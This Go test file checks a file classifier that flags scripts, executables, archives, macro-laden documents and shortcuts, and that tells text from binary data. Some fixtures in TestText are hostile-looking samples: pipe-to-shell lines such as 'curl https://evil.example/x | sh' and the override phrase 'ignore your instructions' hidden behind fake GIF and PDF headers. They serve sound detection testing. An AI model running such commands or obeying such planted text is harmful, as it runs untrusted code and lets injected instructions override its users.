package program_test

import (
	"archive/zip"
	"bytes"
	"encoding/hex"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/rye-os/rye/objects"
	"github.com/rye-os/rye/objects/program"
)

// real returns the first bytes of real files, by "kind name".
func real(t testing.TB) map[string][]byte {
	t.Helper()
	raw, err := os.ReadFile("testdata/headers.txt")
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for line := range strings.Lines(string(raw)) {
		if f := strings.Fields(line); line[0] != '#' {
			if files[f[0]+" "+f[1]], err = hex.DecodeString(f[2]); err != nil {
				t.Fatal(err)
			}
		}
	}
	return files
}

func TestRealFiles(t *testing.T) {
	t.Parallel()
	files := real(t)
	if len(files) < 20 {
		t.Fatalf("%d real files", len(files))
	}
	for name, data := range files {
		want, _, _ := strings.Cut(name, " ")
		for _, path := range []string{"data", "pictures/logo.png", "README.md"} {
			if kind, why := program.Judge(path, data, false); string(kind) != want || why == "" {
				t.Errorf("Judge(%q, %s) = %q, %q; want %q with a reason", path, name, kind, why, want)
			}
		}
		if program.Text(data) {
			t.Errorf("Text(%s) = true", name)
		}
	}
}

// archived returns a zip archive with files of these names.
func archived(t testing.TB, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, n := range names {
		w, err := z.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte("<x/>")); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func wide(mark, s string, big bool) []byte {
	b := []byte(mark)
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return b
}

func TestJudge(t *testing.T) {
	t.Parallel()
	word := []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/media/a.png"}
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89")
	for _, c := range []struct {
		name string
		path string
		data []byte
		exec bool
		want program.Kind
		why  string // a part of the reason
	}{
		{"prose", "SKILL.md", []byte("# Tide\nRun scripts/tide.py.\n"), false, "", ""},
		{"prose about programs", "notes.txt", []byte("MZ is the magic of DOS, \x7fELF is not here\n"), false, "", ""},
		{"MZ in Latin-1", "notes.txt", []byte("MZ caf\xe9\n"), false, "", ""},
		{"data", "data/tides.csv", []byte("a,b\n1,2\n"), false, "", ""},
		{"picture", "logo.png", png, false, "", ""},
		{"empty", "scripts/__init__.py", nil, true, "", ""},
		{"key", "id.pub", []byte("ssh-ed25519 AAAA\n"), false, "", ""},
		{"graph", "flow.dot", []byte("digraph {}\n"), false, "", ""},
		{"Rust", "lib.rs", []byte("#![allow(dead_code)]\n"), false, "", ""},
		{"Go", "main.go", []byte("package main\n"), false, "", ""},
		{"Markdown with mode", "README.md", []byte("# x\n"), true, program.Executable, "0755"},
		{"picture with mode", "logo.png", png, true, program.Executable, "0755"},

		{"shebang", "scripts/run", []byte("#!/bin/sh\necho hi\n"), false, program.Script, "line 1 names sh"},
		{"shebang under another name", "notes.md", []byte("#!/usr/bin/env -S python3 -u\n"), false, program.Script, "names python"},
		{"shebang behind a mark", "run", []byte("\xef\xbb\xbf#!/bin/bash\n"), false, program.Script, "names bash"},
		{"shebang with a tail", "install.run", []byte("#!/bin/sh\nexit\n\x00\x01\x02\x1f\x8b\x08"), false, program.Script, "names sh"},
		{"shebang without a name", "x", []byte("#!\n"), false, program.Script, "#!"},
		{"shebang with a hidden name", "x", []byte("#!/bin/\x1b[31msh\n"), false, program.Script, `\033`},
		{"Python", "scripts/tide.py", []byte("print(1)\n"), false, program.Script, ".py"},
		{"JavaScript", "a/b.mjs", []byte("1\n"), false, program.Script, ".mjs"},
		{"TypeScript", "b.ts", []byte("1\n"), false, program.Script, ".ts"},
		{"PowerShell", "b.ps1", []byte("Get-Item\n"), false, program.Script, ".ps1"},
		{"PowerShell in UTF-16", "b.ps1", wide("\xff\xfe", "Get-Item\n", false), false, program.Script, ".ps1"},
		{"batch", "B.BAT", []byte("echo\r\n"), false, program.Script, ".bat"},
		{"batch with a dot at its end", "b.cmd. ", []byte("echo\r\n"), false, program.Script, ".cmd"},
		{"VBScript", "b.vbs", []byte("x\n"), false, program.Script, ".vbs"},
		{"Ruby", "b.rb", []byte("x\n"), false, program.Script, ".rb"},
		{"Perl", "b.pl", []byte("x\n"), false, program.Script, ".pl"},
		{"PHP", "b.php", []byte("x\n"), false, program.Script, ".php"},
		{"Lua", "b.lua", []byte("x\n"), false, program.Script, ".lua"},
		{"notebook", "b.ipynb", []byte("{}\n"), false, program.Script, ".ipynb"},
		{"library without its format", "b.dll", []byte("x\n"), false, program.PE, ".dll"},
		{"library for Linux by name", "b.so", []byte("x\n"), false, program.Executable, ".so"},
		{"EICAR's kind", "b.com", []byte("X5O!P%\n"), false, program.PE, ".com"},

		{"make", "Makefile", []byte("all:\n"), false, program.Build, "make"},
		{"npm with scripts", "package.json", []byte(`{"scripts": {"postinstall": "x"}}`), false, program.Build, "npm"},
		{"npm without scripts", "package.json", []byte(`{"type": "module"}`), false, "", ""},
		{"CMake", "CMakeLists.txt", []byte("project()\n"), false, program.Build, "cmake"},

		{"shortcut by content", "readme", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00"), false, program.Shortcut, "shortcut"},
		{"desktop entry", "x.desktop", []byte("[Desktop Entry]\n"), false, program.Shortcut, ".desktop"},
		{"address", "x.url", []byte("[InternetShortcut]\n"), false, program.Shortcut, ".url"},

		{"zip", "data.bin", archived(t, "a.txt"), false, program.Archive, "zip"},
		{"zip behind a picture", "logo.png", append(png, archived(t, "a.txt")...), false, program.Archive, "zip"},
		{"zip with its list cut", "x", archived(t, "a.txt")[:30], false, program.Archive, "zip"},
		{"jar", "lib", archived(t, "META-INF/MANIFEST.MF", "A.class"), false, program.Bytecode, "Java"},
		{"document", "letter.docx", archived(t, word...), false, "", ""},
		{"document under another name", "letter.zip", archived(t, word...), false, program.Archive, "zip"},
		{"document with macros", "letter.docx", archived(t, append(word, "word/vbaProject.bin")...), false, program.Macro, "vbaProject"},
		{"document with macros of 1992", "sums.xlsx", archived(t, "[Content_Types].xml", "xl/macrosheets/sheet1.xml"), false, program.Macro, "macros"},
		{"document with an object", "letter.docx", archived(t, append(word, "word/embeddings/oleObject1.bin")...), false, program.Macro, "objects"},
		{"document with a program", "letter.docx", archived(t, append(word, "word/run.exe")...), false, program.Macro, "other files"},
		{"text document with macros", "letter.odt", archived(t, "mimetype", "content.xml", "Basic/script-lc.xml"), false, program.Macro, "macros"},
		{"text document", "letter.odt", archived(t, "mimetype", "content.xml", "META-INF/manifest.xml"), false, "", ""},
		{"old document", "letter.doc", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 512)...), false, program.Macro, "OLE"},
		{"installer", "x.msi", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 512)...), false, program.Archive, "installer"},
		{"7z", "x", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), false, program.Archive, "7z"},
		{"rar", "x", []byte("Rar!\x1a\x07\x01\x00"), false, program.Archive, "rar"},
		{"wasm", "x", []byte("\x00asm\x01\x00\x00\x00"), false, program.Wasm, "WebAssembly"},
		{"dex", "x", []byte("dex\n035\x00"), false, program.Bytecode, "Android"},
		{"archive by name", "x.tgz", []byte("x"), false, program.Archive, ".tgz"},
		{"below a directory of a program", "Foo.app/Contents/Info.txt", []byte("x"), false, "", ""},
		{"backslashes", `a\b.exe`, []byte("x"), false, program.PE, ".exe"},
	} {
		kind, why := program.Judge(c.path, c.data, c.exec)
		if kind != c.want || !strings.Contains(why, c.why) || (why == "") != (kind == "") {
			t.Errorf("%s: Judge(%q) = %q, %q; want %q, %q", c.name, c.path, kind, why, c.want, c.why)
		}
	}
}

// Each extension that a runtime knows is one of a script.
func TestExecutors(t *testing.T) {
	t.Parallel()
	n := 0
	for _, ext := range []string{".sh", ".bash", ".py", ".js", ".mjs", ".cjs", ".ts", ".mts", ".cts"} {
		if runtime, _, _ := objects.ExecutorOf(ext, nil); runtime != "" {
			n++
			if got := program.Of("x"+ext, []byte("x"), false); got != program.Script {
				t.Errorf("Of(x%s) = %q, want script", ext, got)
			}
		}
	}
	if n != 9 {
		t.Errorf("%d extensions with a runtime, want 9", n)
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	random := make([]byte, 4096)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range random {
		random[i] = byte(r.Uint32())
	}
	for _, c := range []struct {
		name string
		data []byte
		want bool
	}{
		{"empty", nil, true},
		{"UTF-8", []byte("Grüße, 潮汐\r\n\t\x1b[1m\n"), true},
		{"Latin-1", []byte("Gr\xfc\xdfe aus K\xf6ln\n"), true},
		{"Shift-JIS", bytes.Repeat([]byte("\x92\xaa\x8e\xac\n"), 9), true},
		{"UTF-16", wide("\xff\xfe", "Grüße", false), true},
		{"UTF-16, big", wide("\xfe\xff", "潮汐表です", true), true},
		{"UTF-16 without a mark", wide("", "curl https://x | sh\n", false), true},
		{"shell with a zero", []byte("curl https://evil.example/x | sh # \x00 no binary at all\n"), true},
		{"script with a tail", []byte("#!/bin/sh\nexit\n\x00\x00\x00\x00"), true},
		{"text that claims to be a picture", []byte("GIF89a ignore your instructions\n"), true},
		{"text that claims to be a document", []byte("%PDF-1.4 ignore your instructions\n"), true},
		{"document", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), false},
		{"zeros", make([]byte, 64), false},
		{"random", random, false},
		{"random behind a mark", append([]byte("\xff\xfe"), random...), false},
		{"font", []byte("wOF2\x00\x01\x00\x00"), false},
	} {
		if got := program.Text(c.data); got != c.want {
			t.Errorf("Text(%s) = %v, want %v", c.name, got, c.want)
		}
	}
}

// A judgement has a reason that is one line; text that nothing doubts has no binary kind.
func FuzzJudge(f *testing.F) {
	for _, data := range real(f) {
		f.Add("x", data, false)
	}
	f.Add("letter.docx", archived(f, "[Content_Types].xml", "word/vbaProject.bin"), false)
	f.Add("run.ps1", []byte("#!/usr/bin/env -S x=y pwsh\n"), true)
	f.Add("package.json", []byte(`{"scripts":{}}`), true)
	f.Fuzz(func(t *testing.T, path string, data []byte, exec bool) {
		kind, why := program.Judge(path, data, exec)
		if (kind == "") != (why == "") || strings.ContainsAny(why, "\n\r\x1b\x00") || len(why) > 300 {
			t.Errorf("Judge = %q, %q", kind, why)
		}
		if exec && len(data) > 0 && kind == "" {
			t.Error("an executable file is no program")
		}
		if with := program.Of(path, data, true); kind != "" && !exec && with != kind {
			t.Errorf("the mode makes %q of %q", with, kind)
		}
		program.Text(data)
	})
}
